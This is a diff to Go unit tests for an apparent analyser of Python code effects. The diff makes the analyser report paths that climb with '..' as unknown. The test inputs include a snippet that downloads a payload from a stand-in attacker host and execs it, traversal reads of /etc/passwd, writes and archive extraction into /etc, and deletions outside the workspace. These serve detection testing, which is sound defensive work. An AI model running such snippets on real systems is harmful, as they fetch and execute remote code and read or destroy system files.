@@ -64,11 +64,11 @@ func TestEffectsCarryTheirFacts(t *testing.T) {
 		"a report over an input file": {
 			"import pandas as pd\ndf = pd.read_csv('/inputs/sales.csv')\nout = df.groupby('region')['amount'].sum().sort_values(ascending=False)\n" +
 				"out.to_csv('report.csv')\nimport matplotlib.pyplot as plt\nout.plot(kind='bar')\nplt.savefig('./charts/../report.png')\nprint(out.head(10).to_string())\n",
-			[]string{"2:6 FileRead pandas.read_csv /inputs/sales.csv", "4:5 FileWrite .to_csv /workspace/report.csv", "7:1 FileWrite matplotlib.pyplot.savefig /workspace/report.png"},
+			[]string{"2:6 FileRead pandas.read_csv /inputs/sales.csv", "4:5 FileWrite .to_csv /workspace/report.csv", "7:1 FileWrite matplotlib.pyplot.savefig ?"},
 		},
 		"deleting outside of the workspace": {
 			"import os, shutil\nos.remove('/data/2023/../old.csv')\nshutil.rmtree('/data/archive')\nfrom pathlib import Path\n(Path('/data') / 'x').unlink()\n",
-			[]string{"2:1 FileDelete os.remove /data/old.csv", "3:1 FileDelete shutil.rmtree /data/archive", "5:23 FileDelete .unlink /data/x"},
+			[]string{"2:1 FileDelete os.remove ?", "3:1 FileDelete shutil.rmtree /data/archive", "5:23 FileDelete .unlink /data/x"},
 		},
 		"downloading and running a payload": {
 			"import urllib.request\ncode = urllib.request.urlopen('http://evil.attacker.example/payload.py').read()\nexec(code)\n",
@@ -100,8 +100,8 @@ func TestEffectsCarryTheirFacts(t *testing.T) {
 		"downloading to a file":                {"import urllib.request as u\nu.urlretrieve('http://a/x', '/etc/x')\n", []string{"2:1 Network urllib.request.urlretrieve a:80", "2:1 FileWrite urllib.request.urlretrieve /etc/x"}},
 		"SQL text":                             {"import sqlite3\nc = sqlite3.connect('x.db').cursor()\nc.execute('DROP TABLE t')\n", []string{"2:5 FileRead sqlite3.connect /workspace/x.db", "2:5 FileWrite sqlite3.connect /workspace/x.db", "3:3 SQL .execute DROP TABLE t"}},
 		"temporary files":                      {"import tempfile\ntempfile.mkdtemp()\ntempfile.NamedTemporaryFile('w', suffix='.csv', delete=False)\ntempfile.mkstemp(prefix='../etc/x')\ntempfile.mkdtemp(dir='/etc')\n", []string{"2:1 FileWrite tempfile.mkdtemp /tmp/tmpXXXXXXXX", "3:1 FileWrite tempfile.NamedTemporaryFile /tmp/tmpXXXXXXXX", "4:1 FileWrite tempfile.mkstemp ?", "5:1 FileWrite tempfile.mkdtemp /etc"}},
-		"globs read their directory":           {"import glob\nglob.glob('/inputs/*.csv')\nglob.glob('*.csv')\nglob.glob('/a/b*/../../etc/*')\n", []string{"2:1 FileRead glob.glob /inputs", "3:1 FileRead glob.glob /workspace", "4:1 FileRead glob.glob /a"}},
-		"archives":                             {"import zipfile\nz = zipfile.ZipFile('/inputs/a.zip')\nz.extractall('/etc')\n", []string{"2:5 FileRead zipfile.ZipFile /inputs/a.zip", "3:3 FileWrite .extractall /etc"}},
+		"globs read their directory":           {"import glob\nglob.glob('/inputs/*.csv')\nglob.glob('*.csv')\nglob.glob('/a/b*/../../etc/*')\n", []string{"2:1 FileRead glob.glob /inputs", "3:1 FileRead glob.glob /workspace", "4:1 FileRead glob.glob ?"}},
+		"archives":                             {"import zipfile\nz = zipfile.ZipFile('/inputs/a.zip')\nz.extractall('/etc')\n", []string{"2:5 FileRead zipfile.ZipFile /inputs/a.zip", "3:3 FileWrite .extractall ?"}},
 		"numpy loads pickles only when told":   {"import numpy as np\nnp.load('a.npy')\nnp.load('a.npy', None, True)\nnp.load('a.npy', **k)\nk = {}\n", []string{"2:1 FileRead numpy.load /workspace/a.npy", "3:1 FileRead numpy.load /workspace/a.npy", "3:1 Dynamic numpy.load", "4:1 FileRead numpy.load /workspace/a.npy", "4:1 Dynamic numpy.load"}},
 		"standard streams are not files":       {"import sys\nprint('x', file=sys.stderr)\nsys.stdout.write(input())\n", nil},
 		"logging to a file, and not":           {"import logging\nlogging.basicConfig(level=logging.INFO)\nlogging.basicConfig(filename='/var/log/x')\n", []string{"3:1 FileWrite logging.basicConfig /var/log/x"}},
@@ -130,8 +130,8 @@ func TestPathsAreFolded(t *testing.T) {
 		"os.path.join with an unknown part":            {"import os\nopen(os.path.join('/inputs', input()))", "?"},
 		"pathlib with an unknown part":                 {"from pathlib import Path\nopen(Path('/inputs') / input())", "?"},
 		"pathlib, its parent and joinpath":             {"from pathlib import Path\nopen(Path('/inputs/a').parent.joinpath('b'))", "/inputs/b"},
-		"climbing out of the workspace":                {"open('../../etc/passwd')", "/etc/passwd"},
-		"climbing out behind an allowed prefix":        {"open('/workspace/../etc/passwd')", "/etc/passwd"},
+		"climbing out of the workspace":                {"open('../../etc/passwd')", "?"},
+		"climbing out behind an allowed prefix":        {"open('/workspace/../etc/passwd')", "?"},
 		"a name that is bound twice":                   {"p = '/tmp/x'\nif input(): p = '/etc/passwd'\nopen(p)", "?"},
 		"a name that another function sets":            {"p = '/tmp/x'\ndef f():\n  global p\n  p = input()\nopen(p)", "?"},
 		"a name that a loop sets":                      {"p = '/tmp/x'\nfor p in input(): pass\nopen(p)", "?"},
